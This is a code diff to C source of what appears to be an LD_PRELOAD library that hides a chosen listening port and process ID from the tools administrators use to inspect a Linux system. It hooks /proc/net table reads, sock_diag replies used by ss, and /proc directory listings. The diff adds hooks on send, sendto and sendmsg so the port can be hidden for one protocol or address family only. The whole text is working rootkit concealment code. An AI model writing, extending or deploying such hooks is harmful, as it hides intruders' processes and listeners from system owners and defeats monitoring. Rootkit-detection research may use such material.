@@ -11,6 +11,13 @@
  *                  with read(2);
  *                - NETLINK_SOCK_DIAG (inet_diag) replies received with recv,
  *                  recvfrom or recvmsg (one iovec), which is what ss uses.
+ *   HIDE_PROTO=tcp|udp, HIDE_FAMILY=ipv4|ipv6
+ *                optional: narrow HIDE_PORT to that protocol and family, so
+ *                a neighbour on the same port number (a TIME_WAIT, a UDP
+ *                socket beside a TCP one) stays visible. sock_diag replies
+ *                do not name their protocol: it is taken from the request
+ *                with the same sequence number on the same descriptor,
+ *                seen by send, sendto or sendmsg.
  *   HIDE_PID=P   optional: "P" disappears from readdir()/readdir64() of the
  *                /proc root directory (the list of processes).
  *
@@ -50,6 +57,8 @@
 static pthread_once_t once = PTHREAD_ONCE_INIT;
 static int hide_port = -1;  /* host byte order; -1: hide no port */
 static char hide_pid[16];   /* decimal; "": hide no process */
+static int hide_proto = -1; /* IPPROTO_TCP or IPPROTO_UDP; -1: both */
+static int hide_family = -1; /* AF_INET or AF_INET6; -1: both */
 
 static int (*real_open)(const char *, int, ...);
 static int (*real_open64)(const char *, int, ...);
@@ -60,6 +69,9 @@ static int (*real_close)(int);
 static ssize_t (*real_recv)(int, void *, size_t, int);
 static ssize_t (*real_recvfrom)(int, void *, size_t, int, struct sockaddr *, socklen_t *);
 static ssize_t (*real_recvmsg)(int, struct msghdr *, int);
+static ssize_t (*real_send)(int, const void *, size_t, int);
+static ssize_t (*real_sendto)(int, const void *, size_t, int, const struct sockaddr *, socklen_t);
+static ssize_t (*real_sendmsg)(int, const struct msghdr *, int);
 static struct dirent *(*real_readdir)(DIR *);
 static struct dirent64 *(*real_readdir64)(DIR *);
 
@@ -68,6 +80,7 @@ static void init(void) {
 #define NEXT(name) do { void *p = dlsym(RTLD_NEXT, #name); memcpy(&real_##name, &p, sizeof p); } while (0)
     NEXT(open); NEXT(open64); NEXT(openat); NEXT(openat64); NEXT(read); NEXT(close);
     NEXT(recv); NEXT(recvfrom); NEXT(recvmsg); NEXT(readdir); NEXT(readdir64);
+    NEXT(send); NEXT(sendto); NEXT(sendmsg);
 #undef NEXT
     const char *port = getenv("HIDE_PORT");
     if (port && *port) {
@@ -75,6 +88,12 @@ static void init(void) {
         long value = strtol(port, &end, 10);
         if (*end == 0 && value > 0 && value < 65536) hide_port = (int)value;
     }
+    const char *proto = getenv("HIDE_PROTO");
+    if (proto && !strcmp(proto, "tcp")) hide_proto = IPPROTO_TCP;
+    if (proto && !strcmp(proto, "udp")) hide_proto = IPPROTO_UDP;
+    const char *family = getenv("HIDE_FAMILY");
+    if (family && !strcmp(family, "ipv4")) hide_family = AF_INET;
+    if (family && !strcmp(family, "ipv6")) hide_family = AF_INET6;
     const char *pid = getenv("HIDE_PID");
     if (pid && *pid && strlen(pid) < sizeof hide_pid) strcpy(hide_pid, pid);
 }
@@ -100,6 +119,15 @@ static int table_name(const char *path) {
 
 /* Whether open descriptor `fd` is /proc/.../net/<table>: resolves what was
  * opened through /proc/self/fd, so relative paths and dirfds are covered. */
+/* Whether the table named `base` (tcp, tcp6, udp, udp6) holds the hidden
+ * protocol and family. */
+static int table_selected(const char *base) {
+    int udp = base[0] == 'u', six = base[3] == '6';
+    if (hide_proto >= 0 && hide_proto != (udp ? IPPROTO_UDP : IPPROTO_TCP)) return 0;
+    if (hide_family >= 0 && hide_family != (six ? AF_INET6 : AF_INET)) return 0;
+    return 1;
+}
+
 static int is_table(int fd) {
     char link[64], target[256];
     snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
@@ -108,7 +136,7 @@ static int is_table(int fd) {
     target[n] = 0;
     if (strncmp(target, "/proc/", 6) != 0) return 0;
     const char *net = strstr(target, "/net/");
-    return net && table_name(net + 5) && !strchr(net + 5, '/');
+    return net && table_name(net + 5) && !strchr(net + 5, '/') && table_selected(net + 5);
 }
 
 /* The local port of one table row ("  sl: ADDR:PORT REMOTE ..."), or -1. */
@@ -213,6 +241,48 @@ int close(int fd) {
 
 /* ---- NETLINK_SOCK_DIAG replies ---------------------------------------- */
 
+/* The protocol of recent sock_diag dump requests, by descriptor and
+ * sequence number: replies carry the sequence but not the protocol. */
+#define REQUESTS 256
+static struct request { int fd; uint32_t seq; int protocol; } requests[REQUESTS];
+static unsigned next_request;
+static pthread_mutex_t requests_lock = PTHREAD_MUTEX_INITIALIZER;
+
+/* Records the inet_diag requests among `length` bytes of netlink messages. */
+static void note_requests(int fd, const char *buffer, size_t length) {
+    size_t offset = 0;
+    while (length - offset >= NLMSG_HDRLEN) {
+        const struct nlmsghdr *h = (const struct nlmsghdr *)(buffer + offset);
+        /* A message may run on into a later buffer (ss's bytecode): its
+         * request header must be here, not all of it. */
+        if (h->nlmsg_len < NLMSG_HDRLEN) break;
+        int protocol = -1;
+        if (h->nlmsg_type == SOCK_DIAG_BY_FAMILY && length - offset >= NLMSG_LENGTH(sizeof(struct inet_diag_req_v2)))
+            protocol = ((const struct inet_diag_req_v2 *)NLMSG_DATA(h))->sdiag_protocol;
+        else if (h->nlmsg_type == TCPDIAG_GETSOCK)
+            protocol = IPPROTO_TCP;
+        if (protocol >= 0) {
+            pthread_mutex_lock(&requests_lock);
+            requests[next_request++ % REQUESTS] = (struct request){fd, h->nlmsg_seq, protocol};
+            pthread_mutex_unlock(&requests_lock);
+        }
+        if (h->nlmsg_len >= length - offset) break;
+        offset += NLMSG_ALIGN(h->nlmsg_len);
+    }
+}
+
+/* The protocol asked for by the request a reply answers, or -1 when that
+ * request was not seen. */
+static int requested_protocol(int fd, uint32_t seq, int type) {
+    if (type == TCPDIAG_GETSOCK) return IPPROTO_TCP;
+    int protocol = -1;
+    pthread_mutex_lock(&requests_lock);
+    for (unsigned i = 0; i < REQUESTS; i++)
+        if (requests[i].fd == fd && requests[i].seq == seq && requests[i].protocol) protocol = requests[i].protocol;
+    pthread_mutex_unlock(&requests_lock);
+    return protocol;
+}
+
 static int is_sock_diag(int fd) {
     int domain = 0, protocol = 0;
     socklen_t length = sizeof domain;
@@ -223,7 +293,7 @@ static int is_sock_diag(int fd) {
 
 /* Drops the inet_diag messages of sockets on hide_port from `length` bytes
  * of netlink messages, moving the rest together; returns the new length. */
-static size_t filter_diag(char *buffer, size_t length) {
+static size_t filter_diag(int fd, char *buffer, size_t length) {
     size_t kept = 0, offset = 0;
     while (length - offset >= NLMSG_HDRLEN) {
         struct nlmsghdr *h = (struct nlmsghdr *)(buffer + offset);
@@ -231,8 +301,13 @@ static size_t filter_diag(char *buffer, size_t length) {
         size_t step = NLMSG_ALIGN(h->nlmsg_len) < length - offset ? NLMSG_ALIGN(h->nlmsg_len) : length - offset;
         /* SOCK_DIAG_BY_FAMILY, and the older TCPDIAG_GETSOCK/DCCPDIAG_GETSOCK replies. */
         int inet = h->nlmsg_type == SOCK_DIAG_BY_FAMILY || h->nlmsg_type == TCPDIAG_GETSOCK || h->nlmsg_type == DCCPDIAG_GETSOCK;
-        int hide = inet && h->nlmsg_len >= NLMSG_LENGTH(sizeof(struct inet_diag_msg))
-            && ((struct inet_diag_msg *)NLMSG_DATA(h))->id.idiag_sport == htons((uint16_t)hide_port);
+        int hide = 0;
+        if (inet && h->nlmsg_len >= NLMSG_LENGTH(sizeof(struct inet_diag_msg))) {
+            struct inet_diag_msg *m = NLMSG_DATA(h);
+            hide = m->id.idiag_sport == htons((uint16_t)hide_port)
+                && (hide_family < 0 || m->idiag_family == hide_family)
+                && (hide_proto < 0 || requested_protocol(fd, h->nlmsg_seq, h->nlmsg_type) == hide_proto);
+        }
         if (!hide) {
             memmove(buffer + kept, h, step);
             kept += step;
@@ -250,7 +325,27 @@ static size_t filter_diag(char *buffer, size_t length) {
  * returns the new length. Peeks and truncated datagrams pass as they are. */
 static ssize_t filtered(int fd, char *buffer, size_t size, ssize_t n, int flags) {
     if (n <= 0 || hide_port < 0 || (flags & MSG_PEEK) || (size_t)n > size || !is_sock_diag(fd)) return n;
-    return (ssize_t)filter_diag(buffer, (size_t)n);
+    return (ssize_t)filter_diag(fd, buffer, (size_t)n);
+}
+
+ssize_t send(int fd, const void *buffer, size_t length, int flags) {
+    INIT();
+    if (hide_proto >= 0 && is_sock_diag(fd)) note_requests(fd, buffer, length);
+    return real_send(fd, buffer, length, flags);
+}
+
+ssize_t sendto(int fd, const void *buffer, size_t length, int flags, const struct sockaddr *to, socklen_t toLength) {
+    INIT();
+    if (hide_proto >= 0 && is_sock_diag(fd)) note_requests(fd, buffer, length);
+    return real_sendto(fd, buffer, length, flags, to, toLength);
+}
+
+/* The request header is in the first buffer (ss puts its filter bytecode in a second). */
+ssize_t sendmsg(int fd, const struct msghdr *message, int flags) {
+    INIT();
+    if (hide_proto >= 0 && message->msg_iovlen >= 1 && is_sock_diag(fd))
+        note_requests(fd, message->msg_iov[0].iov_base, message->msg_iov[0].iov_len);
+    return real_sendmsg(fd, message, flags);
 }
 
 /* Each receive below repeats when every message of a datagram was hidden:
